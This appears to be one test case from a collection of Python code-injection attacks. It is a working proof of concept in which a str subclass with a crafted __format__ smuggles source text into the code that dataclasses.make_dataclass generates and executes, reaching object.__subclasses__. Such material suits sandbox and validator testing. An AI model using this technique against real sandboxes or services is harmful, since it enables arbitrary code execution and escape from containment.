# attack: make_dataclass checks that names are identifiers, by asking the names; these lie, and write another text into the code
# family: eval
import dataclasses
class Name(str):
    def __format__(self, how):
        return "x,print('REACHED',[].__class__.__base__.__subclasses__)"
repr(dataclasses.make_dataclass("Thing", [(Name("x"), int)], init=False, eq=False, namespace={"x": 0})())
